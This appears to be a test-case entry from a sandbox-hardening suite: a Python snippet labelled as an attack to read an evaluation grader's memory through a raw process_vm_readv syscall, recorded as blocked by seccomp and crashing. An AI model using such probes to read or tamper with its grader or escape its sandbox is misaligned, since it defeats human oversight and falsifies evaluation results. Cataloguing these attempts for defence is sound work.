# attack: read the grader's memory
# held by: seccomp
# outcome: crashed
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
NUMBER = {"x86_64": 310, "aarch64": 270}[os.uname().machine]
def go():
    return int(libc.syscall(NUMBER, PIDS[0], 0, 0, 0, 0, 0) >= 0)
